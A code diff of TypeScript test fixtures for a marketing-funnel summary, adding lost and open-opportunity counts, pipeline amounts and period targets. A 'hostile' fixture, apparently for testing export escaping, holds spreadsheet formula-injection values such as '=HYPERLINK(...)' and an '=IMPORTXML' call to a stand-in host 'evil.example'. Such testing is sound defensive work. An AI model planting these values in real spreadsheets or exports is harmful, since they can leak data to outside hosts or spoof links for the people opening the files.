@@ -36,7 +36,8 @@ export function kpiRow(inputs: Inputs, assumptions?: { grossMargin: number; expe
     mqlRate: ratio(inputs.mql, inputs.leads),
     sqlRate: ratio(inputs.sql, inputs.mql),
     opportunityRate: ratio(inputs.opportunities, inputs.leads),
-    winRate: ratio(inputs.won, inputs.opportunities),
+    winRate: ratio(inputs.won, inputs.won === null || inputs.lost === null ? null : inputs.won + inputs.lost),
+    opportunityToWinRate: ratio(inputs.won, inputs.opportunities),
     leadToWinRate: ratio(inputs.won, inputs.leads),
     costPerOpportunity: ratio(inputs.cost, inputs.opportunities),
     cac,
@@ -63,7 +64,11 @@ function inputs(
   cost: number | null,
   revenue: number | null,
 ): Inputs {
-  return { impressions, clicks, sessions, engagedSessions, downloads, leads, mql, sql, opportunities, won, cost, revenue };
+  // Of the opportunities not won, half (rounded down) were lost and the rest are open, each open one worth 100,000.
+  const lost = opportunities === null || won === null ? null : Math.floor((opportunities - won) / 2);
+  const openOpportunities = opportunities === null || won === null || lost === null ? null : opportunities - won - lost;
+  const pipelineAmount = revenue === null || openOpportunities === null ? null : openOpportunities * 100000;
+  return { impressions, clicks, sessions, engagedSessions, downloads, leads, mql, sql, opportunities, won, lost, openOpportunities, cost, revenue, pipelineAmount };
 }
 
 export const LTV_ASSUMPTIONS = { grossMargin: 0.7, expectedPurchases: 3 };
@@ -94,8 +99,17 @@ function month(
   return { ...row, month: name, immature, leadsChange, opportunityRateChange, targets };
 }
 
-function band(name: string, leads: number, opportunities: number, won: number): ScoreBandRow {
-  return { band: name, leads, opportunities, won, opportunityRate: ratio(opportunities, leads), winRate: ratio(won, opportunities) };
+function band(name: string, leads: number, opportunities: number, won: number, lost = 0): ScoreBandRow {
+  return {
+    band: name,
+    leads,
+    opportunities,
+    won,
+    lost,
+    opportunityRate: ratio(opportunities, leads),
+    opportunityToWinRate: ratio(won, opportunities),
+    winRate: ratio(won, won + lost),
+  };
 }
 
 function email(campaign: string, delivered: number, opens: number | null, clicks: number | null): EmailTableRow {
@@ -127,6 +141,11 @@ export function fullSummary(assumptions: { grossMargin: number; expectedPurchase
     asOf: '2025-07-15',
     currency: 'JPY',
     total: kpiRow(inputs(30000, 600, 4000, 2600, 200, 240, 120, 60, 48, 11, 1200000, 3800000), assumptions),
+    periodTargets: [
+      { metric: 'leads', target: 280, actual: 240, attainment: 240 / 280 },
+      { metric: 'revenue', target: 4000000, actual: 3800000, attainment: 3800000 / 4000000 },
+    ],
+    previousPeriod: null,
     byChannel: [
       channel('Google広告', kpiRow(inputs(30000, 600, 1500, 900, 60, 120, 60, 30, 24, 6, 720000, 1800000), assumptions)),
       channel('展示会', kpiRow(inputs(0, 0, 0, 0, 0, 80, 50, 25, 20, 5, 480000, 2000000), assumptions)),
@@ -137,20 +156,20 @@ export function fullSummary(assumptions: { grossMargin: number; expectedPurchase
         { metric: 'leads', target: 90, actual: 100, attainment: 100 / 90 },
         { metric: 'revenue', target: 1500000, actual: 2000000, attainment: 2000000 / 1500000 },
       ]),
-      month('2025-05', may, false, (80 - 100) / 100, (18 / 80 - 20 / 100) / (20 / 100), [
+      month('2025-05', may, false, (80 - 100) / 100, 18 / 80 - 20 / 100, [
         { metric: 'leads', target: 90, actual: 80, attainment: 80 / 90 },
       ]),
-      month('2025-06', june, true, (60 - 80) / 80, (10 / 60 - 18 / 80) / (18 / 80), [
+      month('2025-06', june, true, (60 - 80) / 80, 10 / 60 - 18 / 80, [
         { metric: 'leads', target: 100, actual: 60, attainment: 60 / 100 },
         { metric: 'revenue', target: 0, actual: 400000, attainment: null },
       ]),
     ],
-    scoreBands: [band('0-19', 100, 5, 1), band('20-39', 60, 10, 2), band('40-59', 40, 12, 3), band('60-79', 25, 12, 3), band('80+', 15, 9, 2)],
+    scoreBands: [band('0-19', 100, 5, 1, 2), band('20-39', 60, 10, 2, 4), band('40-59', 40, 12, 3, 5), band('60-79', 25, 12, 3, 3), band('80+', 15, 9, 2, 1)],
     velocity: { leadToMqlDays: 6, mqlToSqlDays: 12.5, sqlToOpportunityDays: 9, opportunityToWonDays: null, leadToWonDays: 41 },
     email: [email('4月メルマガ', 5000, 1500, 150), email('ウェビナー案内', 2000, null, 40), email('テスト配信', 0, 0, 0)],
     findings: [
-      { code: 'weakest_step', message: 'いちばん落ち込みが大きいのは 商談 → 受注 です（商談48件のうち受注11件、22.9%）。' },
-      { code: 'channel_outlier', message: '展示会 の商談化率は 25.0% で、全体の 20.0% を大きく上回っています（リード80件）。' },
+      { code: 'target_gap', tone: 'bad', message: '受注金額は目標 ¥4,000,000に対して実績 ¥3,800,000（発生日ベース、達成率 95.0%）で、¥200,000足りません。' },
+      { code: 'rate_difference', tone: 'good', message: '「展示会」の商談化率は 25.0% で、ほかのチャネルの 17.5% より高く、偶然では説明できない差です。' },
     ],
     sources: [
       { tab: '広告', kind: 'ads', rowsRead: 90, rowsSkipped: 2 },
@@ -176,6 +195,8 @@ export function leadsOnlySummary(): FunnelSummary {
     asOf: '2025-10-31',
     currency: 'USD',
     total: counts(50, 20, 10),
+    periodTargets: [],
+    previousPeriod: null,
     byChannel: [channel('(not set)', counts(30, 12, 6)), channel('Webinar', counts(20, 8, 4))],
     byMonth: [month('2025-10', counts(50, 20, 10), false, null, null, [])],
     scoreBands: [],
@@ -220,7 +241,7 @@ export function hostileSummary(): FunnelSummary {
     ),
     scoreBands: [band('=1+1', 10, 5, 1), band('-20', 20, 4, 0)],
     email: HOSTILE_NAMES.slice(0, 4).map((name, index) => email(name, 1000 * (index + 1), 100 * (index + 1), 10 * (index + 1))),
-    findings: [{ code: 'channel_outlier', message: '=HYPERLINK("http://x","y") の商談化率が全体と大きく違います。' }],
+    findings: [{ code: 'rate_difference', tone: 'bad', message: '=HYPERLINK("http://x","y") の商談化率が全体と大きく違います。' }],
     sources: [{ tab: '=IMPORTXML("http://evil.example","//a")', kind: 'ads', rowsRead: 3, rowsSkipped: 1 }],
   };
 }
